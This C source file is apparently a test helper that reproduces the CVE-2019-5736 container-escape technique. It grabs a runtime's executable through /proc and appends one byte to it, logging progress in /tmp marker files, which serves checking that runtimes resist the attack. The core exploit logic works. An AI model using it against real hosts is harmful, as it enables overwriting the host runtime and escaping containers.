// SPDX-License-Identifier: BSD-2-Clause
/*
 * For oci_attacks.sh: a container's process that waits for a runtime to enter its pid namespace, keeps its
 * executable, be it by a piece of it that is mapped, and opens it for writing as soon as nobody runs it
 * (CVE-2019-5736). Says in /tmp/seen and /tmp/wrote how far it came; with an argument it looks at process 1
 * once instead.
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static void mark(const char *name)
{
	int fd = open(name, O_CREAT | O_WRONLY | O_CLOEXEC, 0666);

	if (fd >= 0)
		(void)close(fd);
}

static int hold_file(const char *path)
{
	struct stat st, self;
	int fd = open(path, O_PATH | O_CLOEXEC);

	if (fd < 0)
		return -1;
	/* Not ourselves, not a file of the container's own, not the empty one that hides it. */
	if (fstat(fd, &st) == 0 && stat("/bin/busybox", &self) == 0 && st.st_ino != self.st_ino &&
	    stat("/lurk", &self) == 0 && st.st_ino != self.st_ino && st.st_size > 0)
		return fd;
	(void)close(fd);
	return -1;
}

static int hold_mapped(int pid)
{
	const struct dirent *e;
	char path[320];
	int fd = -1;
	DIR *d;

	(void)snprintf(path, sizeof(path), "/proc/%d/map_files", pid);
	d = opendir(path);
	while (d && fd < 0 && (e = readdir(d))) {
		if (e->d_name[0] == '.')
			continue;
		(void)snprintf(path, sizeof(path), "/proc/%d/map_files/%s", pid, e->d_name);
		fd = hold_file(path);
	}
	if (d)
		(void)closedir(d);
	return fd;
}

static int hold(int pid)
{
	char path[64];
	int fd;

	(void)snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = pid % 2 ? hold_mapped(pid) : hold_file(path);
	return fd;
}

static void attack(int fd)
{
	struct timespec pause = {0, 2000000};
	char path[64];
	int i, out;

	mark("/tmp/seen");
	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (i = 0; i < 2000; i++) {
		out = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
		if (out >= 0) {
			if (write(out, "X", 1) == 1)
				mark("/tmp/wrote");
			exit(0);
		}
		(void)nanosleep(&pause, NULL);
	}
	exit(0);
}

int main(int argc, char **argv)
{
	int pid, fd = -1;

	(void)argv;
	if (argc > 1) {
		fd = hold(1);
		if (fork() == 0 && fd >= 0) {
			(void)setsid();
			attack(fd);
		}
		return 0;
	}
	mark("/tmp/ready");
	for (;;)
		for (pid = 2; pid < 400; pid++) {
			fd = hold(pid);
			if (fd < 0)
				continue;
			if (fork() == 0)
				attack(fd);
			(void)close(fd);
		}
}
